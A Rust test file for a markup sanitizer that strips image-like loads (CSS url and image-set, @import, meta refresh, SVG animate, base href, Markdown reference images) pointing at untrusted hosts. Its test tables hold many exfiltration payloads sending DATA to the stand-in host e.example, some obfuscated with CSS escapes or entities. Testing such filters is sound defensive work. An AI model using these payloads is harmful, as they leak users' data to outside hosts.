//! What is loaded besides images, what is not, and which addresses images name.

use super::*;

/// What is loaded although it is no image, or spelled as none is, and what is left of it where nothing is
/// done about markup.
const LOADED: &[(&str, &str)] = &[
    (
        "<p style=\"background:image-set('https://e.example/?q=DATA' 1x)\">",
        "<p style=\"background:image-set('[image removed: e.example]' 1x)\">",
    ),
    (
        "<p style=\"background:u\\72l(https://e.example/?q=DATA)\">",
        "<p data-style=\"background:u\\72l([image removed: e.example])\">",
    ),
    (
        "<p style=\"background:url(htt\\70s://e.example/?q=DATA)\">",
        "<p data-style=\"background:url(htt\\70s://e.example/?q=DATA)\">",
    ),
    (
        "<p style=\"background:url(//e.example/?q=DATA)\">",
        "<p data-style=\"background:url(//e.example/?q=DATA)\">",
    ),
    (
        "<p style='background:url(https&colon;//e.example/?q=DATA)'>",
        "<p data-style='background:url(https&colon;//e.example/?q=DATA)'>",
    ),
    (
        "<p style='background:url(\"https://e.example/?a b=DATA\")'>",
        "<p data-style='background:url(\"https://e.example/?a b=DATA\")'>",
    ),
    (
        "<path fill='url(https&colon;//e.example/?q=DATA)'>",
        "<path data-fill='url(https&colon;//e.example/?q=DATA)'>",
    ),
    (
        "<style>p{background:image-set(\"https://e.example/?q=DATA\")}</style>",
        "<style>p{background:image-set(\"[image removed: e.example]\")}</style>",
    ),
    (
        "<style>@\\69mport 'https://e.example/?q=DATA';</STYLE>",
        "&lt;style>@\\69mport '[image removed: e.example]';</STYLE>",
    ),
    (
        "<style>@import '\\68ttps://e.example/?q=DATA'",
        "&lt;style>@import '\\68ttps://e.example/?q=DATA'",
    ),
    (
        "<iframe srcdoc='&lt;img src=https://e.example/?q=DATA&gt;'>",
        "<iframe data-srcdoc='&lt;img alt='[image removed: e.example]'>",
    ),
    (
        "<meta http-equiv=refresh content=\"0;url=https://e.example/?q=DATA\">",
        "<meta http-equiv=refresh alt=\"[image removed: e.example]\">",
    ),
    (
        "<meta content=' 1.5 , URL = \"https://e.example/?q=DATA' http-equiv=refresh>",
        "<meta alt='[image removed: e.example]' http-equiv=refresh>",
    ),
    (
        "<meta http-equiv=refresh content=0&semi;https&colon;//e.example/?q=DATA>",
        "<meta http-equiv=refresh alt='[image removed: e.example]'>",
    ),
    (
        "<image><animate attributeName=href values='a.png;https://e.example/?q=DATA'>",
        "<image><animate attributeName=href alt='[image removed: e.example]'>",
    ),
    (
        "<image><set attributeName=href to='https://e.example/?q=DATA'>",
        "<image><set attributeName=href alt='[image removed: e.example]'>",
    ),
    (
        "<animate values='a;https://e.example/?a=1&amp;q=DATA'>",
        "<animate alt='[image removed: e.example]'>",
    ),
    (
        "<base href=https://e.example/><img src='?q=DATA'>",
        "<base alt='[image removed: e.example]'><img src='?q=DATA'>",
    ),
    (
        "<base target=a\nhref='//e.example'>",
        "<base target=a\nalt='[image removed: e.example]'>",
    ),
    (
        "<base <b href='//e.example'>",
        "<base <b alt='[image removed: e.example]'>",
    ),
    (
        "<image <a href='https://e.example/?q=DATA'>",
        "<image <a alt='[image removed: e.example]'>",
    ),
    (
        "<?xml-stylesheet href='https://e.example/?q=DATA'?>",
        "<?xml-stylesheet alt='[image removed: e.example]'?>",
    ),
];

/// What is loaded from where it may be, or from nowhere, or is not loaded.
const LEFT: &[&str] = &[
    "<p style=\"background:image-set('https://a.trusted.example/?q=DATA' 1x)\">",
    "<p style=\"color:red;background:url(a.png)\">",
    "<style>a:hover{b:c} /* https:d */ @import 'e.css';</style>",
    "<path fill='url(#a)' stroke='#fff'>",
    "<meta name=description content=\"0;url=https://e.example/?q=DATA\">",
    "<meta http-equiv=Content-Security-Policy content=\"img-src https://e.example\">",
    "<meta http-equiv=refresh content=5>",
    "<base href='/'><base href='https://a.trusted.example/'><base target=_blank>",
    "<base target=a> <a href='https://e.example/?q=DATA'>b</a>",
    "<animate values='0;1;2' from=0 to=1 by=0.1>",
    "<router-link to='/a'>",
    "<style>a{}</style> see https://e.example/?q=DATA",
    "<a href='https://e.example/?q=DATA'>",
];

#[test]
fn n9_3_whatever_is_loaded_counts_as_an_image_however_it_is_spelled() {
    let settings = |hosts| Settings {
        markup: Treatment::Report,
        links: Treatment::Report,
        hosts,
        ..settings()
    };
    let trusted = || vec![Host::named("*.trusted.example")];
    let judged = settings(Hosts::new(trusted()));
    for &(text, expected) in LOADED {
        let (text, expected) = (with_data(text), with_data(expected));
        let looked = examine(&text, Reading::Prose, &judged);
        assert_eq!(looked.text, expected, "{text}");
        let mut counts = looked.tally.counts();
        let is_image = |(rule, _): (Rule, u32)| rule.family() == Family::Image;
        assert!(counts.any(is_image), "{text}: {:?}", looked.tally);
        // From listed hosts only, no matter what it carries.
        let (text, none) = (text.replace(DATA, ""), settings(Hosts::only(trusted())));
        let looked = examine(&text, Reading::Prose, &none);
        assert_ne!(looked.text, text);
        let trusted = text.replace("e.example", "e.trusted.example");
        assert_eq!(examine(&trusted, Reading::Prose, &none).text, trusted);
    }
    for text in LEFT {
        let text = with_data(text);
        assert_eq!(examine(&text, Reading::Prose, &judged).text, text);
    }
}

/// Labels, and whether the address of each is held to the bounds of images.
const LABELS: &[(&str, bool)] = &[
    ("![a][gh]", true),
    ("![a][ GH\n]", true),
    ("![a] [gh]", true),
    ("![gh][]", true),
    ("![gh]", true),
    ("![gh]: x", true),
    ("![a [b] c][gh]", true),
    ("![a `[` b][gh]", true),
    ("![a \\] b][gh]", true),
    ("![a \\[ b][gh]", true),
    ("[![a][gh]](https://docs.example/)", true),
    ("![a](b [gh]", false),
    ("let v = vec![a[0], b];", false),
    ("assert![b[c[0]]]; d[1] [gh]", false),
    ("![a](b.png) and [gh]", false),
    ("![a][b], [c][gh]", false),
    ("[gh]", false),
];

#[test]
fn n9_3_only_an_address_that_an_image_names_is_held_to_what_images_are() {
    for &(text, is_image) in LABELS {
        let address = "[gh]: https://e.example/?q=DATA";
        for text in [
            format!("{text}\n\n{address}"),
            format!("{address}\n\n{text}\n"),
        ] {
            let text = with_data(&text);
            assert_eq!(neutralised(&text).text != text, is_image, "{text}");
        }
    }
    let text = "[gh]: https://x.example/?title=a:%20requesting%20support%20for%20CHANGEME%20target%20feature\n\n\
                    let v = vec![a[0], b];\n";
    assert_eq!(neutralised(text).text, text);
}
